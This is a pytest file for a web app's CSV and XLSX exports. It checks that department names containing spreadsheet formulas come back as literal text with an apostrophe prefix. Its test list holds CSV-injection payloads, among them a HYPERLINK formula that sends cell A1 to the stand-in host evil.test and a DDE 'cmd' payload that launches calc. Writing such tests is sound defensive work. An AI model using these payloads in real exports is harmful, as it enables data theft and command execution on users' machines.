"""Every spreadsheet export neutralises formula-like text that users put into its cells.

Department names are the text staff control that reaches the exports (the dashboard's rows per
department, the annual table's title). Each hostile name gets a department and a ticket in it;
each export endpoint is read back (CSV with the csv module, XLSX with openpyxl) and the cell
must hold the name as literal text (with the OWASP apostrophe), while numbers stay numbers.
A new export endpoint fails test_every_export_is_covered until it is added here.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from openpyxl import load_workbook

from enquiry import create_app
from enquiry.extensions import db
from enquiry.models import Department, Ticket
from enquiry.reporting.spreadsheet_cells import is_formula_like
from enquiry.staff.stats_views import this_year
from tests.hostile.site import Site

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.test/?d="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|x",
    "-2+3",
    "@SUM(1+1)*cmd|x",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "  =1+1",
    "\u3000+1+1",
)


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def dashboard_csv(site: Site, department_id: int) -> list[list[str]]:
    response = site.client("admin").get(
        "/staff/dashboard.csv", query_string={"department": department_id}
    )
    assert response.status_code == 200, response.status_code
    return read_csv(response.data)


def check_dashboard_csv(site: Site, name: str, department_id: int) -> None:
    rows = dashboard_csv(site, department_id)
    named = [row for row in rows if row[0] == "Department"]
    assert [row[1] for row in named] == ["'" + name]
    assert all(cell.isdigit() for cell in named[0][2:])  # the counts stay plain numbers
    assert not unsafe_cells(rows)


def check_annual_csv(site: Site, name: str, department_id: int) -> None:
    response = site.client("admin").get(
        f"/staff/reports/annual/{this_year()}.csv", query_string={"department": department_id}
    )
    assert response.status_code == 200
    rows = read_csv(response.data)
    assert not unsafe_cells(rows)
    assert all(cell.isdigit() for cell in rows[1][3:])


def check_annual_xlsx(site: Site, name: str, department_id: int) -> None:
    response = site.client("admin").get(
        f"/staff/reports/annual/{this_year()}.xlsx", query_string={"department": department_id}
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data))["表三"]
    title = sheet["A1"]
    assert title.data_type == "s"
    assert title.value.startswith("'" + name + " ")
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not unsafe_cells([[cell.value for cell in cells if isinstance(cell.value, str)]])
    numbers = [cell.value for cell in cells if cell.data_type == "n" and cell.value is not None]
    assert numbers and all(isinstance(value, int) for value in numbers)


def check_table4_csv(site: Site, name: str, department_id: int) -> None:
    response = site.client("admin").get(
        f"/staff/reports/annual/{this_year()}/table4.csv",
        query_string={"department": department_id},
    )
    assert response.status_code == 200
    rows = read_csv(response.data)
    assert not unsafe_cells(rows)
    assert all(cell.isdigit() for cell in rows[3])


def check_table4_xlsx(site: Site, name: str, department_id: int) -> None:
    response = site.client("admin").get(
        f"/staff/reports/annual/{this_year()}/table4.xlsx",
        query_string={"department": department_id},
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data))["表四"]
    assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith("'" + name + " ")
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not unsafe_cells([[cell.value for cell in cells if isinstance(cell.value, str)]])


def check_retention_plan_csv(site: Site, name: str, department_id: int) -> None:
    """The plan names only references, rules and dates: nothing a citizen typed."""
    response = site.client("admin").get("/staff/admin/retention/plan.csv")
    assert response.status_code == 200
    rows = read_csv(response.data)
    assert rows[0][:2] == ["Rule", "Action"] or len(rows[0]) == 5


def check_statistics_csv(site: Site, name: str, department_id: int) -> None:
    """The public figures name departments (groups under five withheld): never a formula."""
    response = site.client().get("/statistics.csv", query_string={"year": this_year()})
    assert response.status_code == 200
    rows = read_csv(response.data)
    assert rows and not unsafe_cells(rows)
    assert name not in [cell for row in rows for cell in row]  # only ever with the apostrophe


EXPORTS: dict[str, Callable[[Site, str, int], None]] = {
    "staff.dashboard_csv": check_dashboard_csv,
    "staff.annual_report_csv": check_annual_csv,
    "staff.annual_report_xlsx": check_annual_xlsx,
    "staff.table4_csv": check_table4_csv,
    "staff.table4_xlsx": check_table4_xlsx,
    "staff.admin_retention_plan_csv": check_retention_plan_csv,
    "public.statistics_csv": check_statistics_csv,
}


def unsafe_cells(rows: list[list[Any]]) -> list[str]:
    """Cells a spreadsheet would run as a formula (text without the apostrophe)."""
    return [
        cell
        for row in rows
        for cell in row
        if isinstance(cell, str) and is_formula_like(cell) and not cell.startswith("'")
    ]


@pytest.fixture(scope="module")
def hostile_departments(site: Site) -> Iterator[dict[str, int]]:
    """A department per hostile name, each with a ticket received this year."""
    made: dict[str, int] = {}
    for number, name in enumerate(HOSTILE_NAMES):
        department_id = site.add(
            Department(code=f"formula{number}", name_zh=name, name_en=name, name_ug=name)
        )
        ticket_id = site.fresh_ticket()["ticket_id"]
        with site.app.app_context():
            ticket = db.session.get(Ticket, ticket_id)
            assert ticket is not None
            ticket.department_id = department_id
            db.session.commit()
        made[name] = department_id
    yield made


def test_every_export_is_covered() -> None:
    app = create_app({"TESTING": True, "SQLALCHEMY_DATABASE_URI": "sqlite://", "SECRET_KEY": "x"})
    exports = {
        rule.endpoint
        for rule in app.url_map.iter_rules()
        if rule.rule.endswith((".csv", ".xlsx")) or rule.endpoint.endswith(("_csv", "_xlsx"))
    }
    assert exports == set(EXPORTS)


@pytest.mark.parametrize("endpoint", sorted(EXPORTS))
@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_export_neutralises_formulas(
    site: Site, hostile_departments: dict[str, int], endpoint: str, name: str
) -> None:
    EXPORTS[endpoint](site, name, hostile_departments[name])
